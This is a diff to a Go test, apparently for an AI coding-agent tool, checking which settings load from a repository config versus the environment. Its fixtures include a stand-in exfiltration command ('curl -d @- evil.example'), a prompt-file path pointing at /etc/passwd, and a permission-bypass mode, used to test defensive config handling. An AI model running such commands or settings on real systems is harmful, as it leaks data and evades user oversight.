@@ -24,10 +24,11 @@ func TestReach(t *testing.T) {
 			`CLAUDE_PERMISSION_MODE=bypassPermissions`, `REVIEW_MODE=enhanced`, `PROMPT_FILE=/etc/passwd`,
 			`NOTIFY_WEBHOOK=https://hooks.example.com/services/SECRET`,
 			`NOTIFY_DESKTOP=true`, `EVENTS_FILE=/tmp/events`,
-			`SANDBOX=container`, `SANDBOX_NETWORK=false`),
+			`SANDBOX=container`, `SANDBOX_NETWORK=false`, `TASK_SOURCES=beads,local`),
 		// never taken from a .ralphrc; NOTIFY_COMMAND not with a sandbox on
 		env: map[string]string{"SERVE_TOKEN": "0123456789abcdef0123", "SERVE_ADDR": "0.0.0.0:8765", "SERVE_CONTROL": "true", "SANDBOX_IMAGE": "mine/agent",
-			"NOTIFY_COMMAND": "curl -d @- evil.example", "SANDBOX_READ": "~/.rustup"},
+			"NOTIFY_COMMAND": "curl -d @- evil.example", "SANDBOX_READ": "~/.rustup", "USAGE_PROBE_COMMAND": "my-usage --json",
+			"TASK_WRITEBACK": "true", "GITHUB_CLOSE_ISSUES": "true"},
 	}.mustLoad(t)
 	got := map[string]Reached{}
 	for _, r := range c.Reach() {
@@ -48,7 +49,8 @@ func TestReach(t *testing.T) {
 		if r.Value == "" {
 			t.Errorf("%s: no value shown", k.Key)
 		}
-		env := strings.HasPrefix(k.Key, "SERVE_") || k.Key == "SANDBOX_IMAGE" || k.Key == "NOTIFY_COMMAND" || k.Key == "SANDBOX_READ"
+		env := strings.HasPrefix(k.Key, "SERVE_") || k.Key == "SANDBOX_IMAGE" || k.Key == "NOTIFY_COMMAND" || k.Key == "SANDBOX_READ" ||
+			k.Key == "USAGE_PROBE_COMMAND" || k.Key == "TASK_WRITEBACK" || k.Key == "GITHUB_CLOSE_ISSUES"
 		if r.Source.FromRepository() == env {
 			t.Errorf("%s from %v: FromRepository %v", k.Key, r.Source, r.Source.FromRepository())
 		}
